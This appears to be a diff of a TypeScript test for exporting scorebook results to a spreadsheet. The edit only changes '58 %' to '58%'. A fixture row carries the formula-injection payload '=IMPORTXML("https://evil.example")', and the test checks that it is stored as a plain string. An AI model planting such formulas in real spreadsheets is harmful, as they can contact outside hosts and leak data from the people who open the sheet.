@@ -361,7 +361,7 @@ const results = (change: Partial<ResultsTab> = {}): ResultsTab => ({
   receivedAt: '2026-11-24T12:00:00.000Z',
   title: 'Scorebook results',
   rows: [
-    { bold: true, cells: ['Espoo scores 58 %'] },
+    { bold: true, cells: ['Espoo scores 58%'] },
     { bold: false, cells: ['=IMPORTXML("https://evil.example")', 3, 4] },
   ],
   ...change,
@@ -380,7 +380,7 @@ describe('results', () => {
       row.values?.map(({ userEnteredValue }) => userEnteredValue),
     );
     expect(values).toEqual([
-      [{ stringValue: 'Espoo scores 58 %' }],
+      [{ stringValue: 'Espoo scores 58%' }],
       [{ stringValue: '=IMPORTXML("https://evil.example")' }, { numberValue: 3 }, { numberValue: 4 }],
     ]);
   });
